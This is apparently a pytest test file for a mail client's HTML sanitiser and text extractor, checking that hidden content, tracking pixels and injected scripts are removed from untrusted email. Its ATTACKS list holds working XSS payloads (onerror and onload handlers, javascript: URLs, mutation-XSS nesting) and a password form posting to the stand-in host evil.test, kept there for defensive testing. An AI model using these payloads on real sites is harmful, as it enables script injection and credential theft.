"""HTML of strangers: what is visible of it, as text and as harmless HTML."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailer.clock import monotonic
from mailer.inbound.html import sanitised, tokens, visible_text


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("plain", "plain"),
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("<div>one</div><div>two</div>", "one\ntwo"),
        ("one<br>two<br/>three<BR />four", "one\ntwo\nthree\nfour"),
        ("a  \n b\t<b>c</b>d <i> e</i>", "a b cd e"),
        ("<ul><li>one<li>two</ul>end", "- one\n- two\n\nend"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</table>", "a b\nc"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("a&amp;b &lt;c&gt; &eacute;&#x41;&#66; &nbsp;x", "a&b <c> éAB \xa0x"),
        ("a<!-- x -->b<!DOCTYPE html><?xml?>c", "abc"),
        ("<style>p{}</style>a<script>x('</p>')</script><title>t</title>b", "ab"),
        ("<!--[if mso]><p>Outlook</p><![endif]-->a<![if !mso]>b<![endif]>", "ab"),
        ("1 < 2 and <3", "1 < 2 and <3"),
        ("a<", "a<"),
        ("a</>b", "a</>b"),
        ("<p title='a>b'>c", "c"),
        ('<img src=x alt="a photo">', "a photo"),
        ("<a href='https://x.test'>link</a>", "link"),
        ("<p>one<p>two", "one\n\ntwo"),
        ("", ""),
    ],
)
def test_html_is_laid_out_as_text(html: str, text: str) -> None:
    assert visible_text(html) == text


HIDDEN = [
    "<p style='display:none'>HIDDEN</p>",
    "<p style='DISPLAY : NONE !important'>HIDDEN</p>",
    "<span style='visibility:hidden'>HIDDEN</span>",
    "<div style='font-size:0px'>HIDDEN</div>",
    "<div style='font-size:0'><p>HIDDEN</p></div>",
    "<div style='mso-hide:all'>HIDDEN</div>",
    "<div style='max-height:0;overflow:hidden'>HIDDEN</div>",
    "<div style='opacity:0'>HIDDEN</div>",
    "<div hidden>HIDDEN</div>",
    "<div style='display&#58;none'>HIDDEN</div>",
    "<table><tr><td style='display:none'>HIDDEN<td></table>",
    "<div style='display:none'><div>HIDDEN</div>HIDDEN</div>",
    "<script>HIDDEN</script>",
    "<style>HIDDEN</style>",
    "<!-- HIDDEN -->",
    "<noscript>HIDDEN</noscript>",
    "<template>HIDDEN</template>",
]


@pytest.mark.parametrize("html", HIDDEN)
def test_what_is_hidden_is_neither_read_nor_shown(html: str) -> None:
    whole = f"<p>before</p>{html}<p>after</p>"
    assert visible_text(whole).split() == ["before", "after"]
    assert "HIDDEN" not in sanitised(whole)
    assert "after" in sanitised(whole)


@pytest.mark.parametrize("style", ["display:block", "font-size:10px", "font-size:0.9em", "max-height:0", "opacity:0.5"])
def test_what_is_not_hidden_is_read(style: str) -> None:
    assert visible_text(f"<p style='{style}'>seen</p>") == "seen"


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='https://evil.test'></iframe>",
    "<object data='x'></object><embed src=x>",
    "<form action='https://evil.test'><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<p style='background:url(https://evil.test/pixel)'>x</p>",
    "<p style='position:fixed;top:0'>x</p>",
    "<table background='https://evil.test/pixel'><td background='//evil.test/p'>x</table>",
    "<base href='https://evil.test/'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<<!-- x -->script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src='https://evil.test/pixel.gif'><img src='//evil.test/p'><img src='http:evil.test'>",
    "<img srcset='https://evil.test/pixel 1x'><picture><source srcset='https://evil.test/p'></picture>",
    "<video poster='https://evil.test/p'></video><audio src='https://evil.test/a'></audio>",
    "<body onload=alert(1) background='https://evil.test/p'>x",
    "<p id=x class=y name=z onclick=alert(1)>x</p>",
]


@pytest.mark.parametrize("html", ATTACKS)
def test_nothing_of_an_attack_is_left(html: str) -> None:
    clean = sanitised(f"<p>words</p>{html}").lower()
    assert "<p>words</p>" in clean
    # What is left of an attack is text between tags, never a tag or an attribute.
    inside = " ".join(re.findall(r"<[^>]*>", clean))
    for sign in (
        "script",
        "onerror",
        "onload",
        "onclick",
        "style",
        "evil.test",
        "iframe",
        "form",
        "input",
        "svg",
        "class",
    ):
        assert sign not in inside


def test_links_and_pictures_of_the_mail_itself_stay() -> None:
    clean = sanitised("<a href='https://x.test/?a=1&b=2' target=_blank>x</a><img src='cid:a@b' alt=photo><b>y</b>")
    assert 'href="https://x.test/?a=1&amp;b=2"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean
    assert 'src="cid:a@b"' in clean
    assert "<b>y</b>" in clean
    assert "target" not in clean


@given(st.text(alphabet=st.sampled_from("<>/!-='\" abpscript\n&;#0")))
def test_the_pieces_cover_any_text_whole(html: str) -> None:
    position = 0
    for token in tokens(html):
        assert token.start == position
        assert token.end > position
        position = token.end
    assert position == len(html)


@given(
    st.lists(
        st.sampled_from(
            [
                "<p>",
                "</p>",
                "<div hidden>",
                "</div>",
                "<script>",
                "</script>",
                "<!--",
                "-->",
                "x",
                "<a href='",
                "'>",
                "<td>",
                "<pre>",
            ]
        )
    )
)
def test_any_html_is_read_and_harmless(pieces: list[str]) -> None:
    html = "".join(pieces)
    visible_text(html)
    assert "<script" not in sanitised(html)


@pytest.mark.parametrize(
    "piece",
    [
        "<", "<a ", "<a b='>", "<a b=\"<a c='", "<!--", "<!", "<!-- -->", "<div>", "</div>", "<b><i>", "<p></x>",
        "<style>",
        "<script>x</script>", "&amp", "&#", "&#9", "9", "<table><tr><td>", "<li>", "<svg><math>", "<a><b><i><u>",
        "<p style='a:b;c:d'>", "x=y ", "<pre>\n", "<br>", "<select><option>", "\0", "<img alt='x'>",
    ],
)  # fmt: skip
def test_crafted_html_of_500_kb_takes_no_long_time(piece: str) -> None:
    start = monotonic()
    html = piece * (500_000 // len(piece))
    visible_text(html)
    sanitised(html)
    assert monotonic() - start < 4
